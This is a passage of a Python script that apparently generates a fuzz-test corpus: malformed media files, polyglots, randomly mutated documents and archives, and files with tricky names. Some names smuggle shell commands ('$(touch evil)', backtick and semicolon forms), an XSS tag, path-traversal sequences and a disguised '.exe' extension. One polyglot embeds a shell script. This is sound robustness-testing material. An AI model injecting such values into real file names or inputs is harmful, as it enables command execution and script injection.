    yield "mp4-boxes-2000-deep.mp4", _box(b"ftyp", b"isom") + nested
    yield (
        "mp4-a-million-samples.mp4",
        _box(b"ftyp", b"isom") + _box(b"moov", _box(b"stsz", b"\0" * 8 + b"\xff\xff\xff\xff")),
    )
    yield "wav-says-4-gigabytes.wav", b"RIFF\xff\xff\xff\xffWAVEfmt \x10\0\0\0\1\0\xff\xff" + b"\xff" * 20
    yield "ogg-pages-of-nothing.ogg", (b"OggS\0" + bytes(22)) * 5_000
    yield "mkv-endless-element.mkv", b"\x1aE\xdf\xa3\x01\xff\xff\xff\xff\xff\xff\xff" + b"\x18S\x80g\x01" + b"\xff" * 60
    yield "flac-says-much.flac", b"fLaC\x80\xff\xff\xff" + bytes(64)
    yield "mp3-tag-of-256-megabytes.mp3", b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + bytes(100)
    yield "srt-times-beyond.srt", b"1\n99:99:99,999 --> -1:00:00,000\nwords\n\n" * 1_000
    yield "vtt-cues-10000.vtt", b"WEBVTT\n\n" + b"00:00.000 --> 00:00.000\n<c><v a>words\n\n" * 10_000


def polyglots() -> Files:
    """Files that are two things at once."""
    page, marks = (
        _page(WORDS),
        {"pdf": _good_pdf(), "png": _png(1, 1, bytes(4)), "jpg": _jpeg(), "gif": b"GIF89a/*", "mp4": _mp4()},
    )
    packed = _zip({"result.json": b'{"messages":[]}'})
    for name, raw in marks.items():
        yield f"polyglot-{name}-then-html.html", raw + page
        yield f"polyglot-html-then-{name}.{name}", page + raw
        yield f"polyglot-{name}-then-zip.zip", raw + packed
        yield f"polyglot-{name}-called-txt.txt", raw
    yield "polyglot-program-then-html.html", b"\x7fELF\x02\x01\x01" + bytes(50) + page
    yield "polyglot-shell-script-then-html.html", b"#!/bin/sh\ntouch /tmp/evil\nexit\n" + page
    yield "polyglot-zip-then-html.html", packed + page
    yield "polyglot-html-called-jpg.jpg", page
    yield "polyglot-text-called-pdf.pdf", WORDS.encode()


def mutated(chance: random.Random) -> Files:
    """Good files of every format, cut, and with bytes changed at random."""
    paragraph = _body(b"<w:p><w:r><w:t>words</w:t></w:r></w:p>")
    chat = {"name": "a", "type": "personal_chat", "id": 1, "messages": [{"id": 1, "type": "message", "date": "2024-05-01T10:00:00", "from": "Aliya", "text": "words"}] * 5}  # fmt: skip
    message = b"From: a@example.org\nSubject: words\nMIME-Version: 1.0\nContent-Type: text/html\n\n" + _page(WORDS)
    good = {
        "pdf": _good_pdf(), "png": _png(8, 8, bytes(200)), "jpg": _jpeg(), "mp4": _mp4(), "zip": _zip({"result.json": b"{}" * 50}),
        "docx": _docx(paragraph), "html": _page(f"<h1>Words</h1><p>{WORDS * 5}</p>"), "json": json.dumps(chat).encode(),
        "eml": message, "rtf": b"{\\rtf1\\ansi {\\b words} \\u1040? words}", "csv": b"name,date\nAliya,2021-02-08\n" * 9,
        "gz": gzip.compress(WORDS.encode() * 9, mtime=0), "txt": (WORDS * 9).encode(),
    }  # fmt: skip
    for ending, raw in good.items():
        for number in range(CUTS):
            yield f"cut-{ending}-{number}.{ending}", raw[: chance.randrange(1, len(raw))]
        for number in range(MUTATIONS):
            changed = bytearray(raw)
            for _ in range(chance.choice((1, 3, 20))):
                changed[chance.randrange(len(changed))] = chance.randrange(256)
            yield f"changed-{ending}-{number:02}.{ending}", bytes(changed)
    for number in range(10):
        yield f"noise-{number}.bin", chance.randbytes(chance.choice((1, 100, 10_000)))


def names() -> Files:
    """Good texts under names that do something to whoever prints, joins or runs them."""
    odd = [
        "name-with-\n-newline.txt", "name-with-\r-return.txt", "name-with-\x1b[31m-escape.txt", "name-with-\u202etxt.exe",
        "name-with-..-dots.txt", "..name-begins-with-dots.txt", "-rf name-begins-with-a-dash.txt", "name with spaces .txt ",
        "name-with-$(touch evil).txt", "name-with-`touch evil`.txt", "name-with-;touch evil.txt", "name-with-'quotes\".txt",
        "name-with-<script>alert(1)<.html", "name-with-\\back\\slashes.txt", "name-with-%2e%2e%2f.txt", "name-with-*.txt",
        "name-with-é-as-two-characters-e\u0301.txt", "name-with-\u200b-nothing.txt", "name-with-\U0001f469\u200d\U0001f467.txt",
        "name-like-a-device-CON.txt", "name-without-an-ending", "name.with.many." + "a." * 50 + "txt", "name-with-|-pipe.txt",
        "name-with-{braces}-%s-%n.txt", "name-with-\x7f-delete.txt", "name-with-\t-tab.txt", "name-of-255-bytes-" + "a" * 233 + ".txt",
        "name-of-255-bytes-" + "ә" * 116 + "1.txt", "name-of-bytes-that-are-no-text-\udcff\udcfe.txt", "name-with-🇰🇿.txt",
    ]  # fmt: skip
    for number, name in enumerate(odd):
        yield name, f"{WORDS}Text {number} has an ordinary content.".encode()


GROUPS: Final[dict[str, Callable[[random.Random], Files]]] = {
    "texts": lambda _: texts(), "torture": lambda _: torture(), "pages": lambda _: pages(), "tables": lambda _: tables(),
    "data": lambda _: data(), "archives": lambda _: archives(), "documents": lambda _: documents(),
    "printed": lambda _: printed(), "media": lambda _: media(), "polyglots": lambda _: polyglots(), "mutated": mutated,
    "names": lambda _: names(),
}  # fmt: skip


def make(folder: Path, seed: int = 1) -> list[str]:
    """Writes all files into ``folder``, one folder for each group; returns their names, group first."""
    made = []
    for group, files in GROUPS.items():
        chance = random.Random(f"{seed} {group}")  # noqa: S311  files to test with, the same for the same seed
        (folder / group).mkdir(parents=True)
        for name, content in files(chance):
            (folder / group / name).write_bytes(content)
            made.append(f"{group}/{name}")
    return made


def main(arguments: list[str]) -> int:
    """Makes the files; returns the exit code."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("folder", type=Path, help="a folder that is not there yet")
    parser.add_argument("--seed", type=int, default=1, help="another seed gives other changes")
    given = parser.parse_args(arguments)
    print(f"{len(make(given.folder, given.seed))} files in {given.folder}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
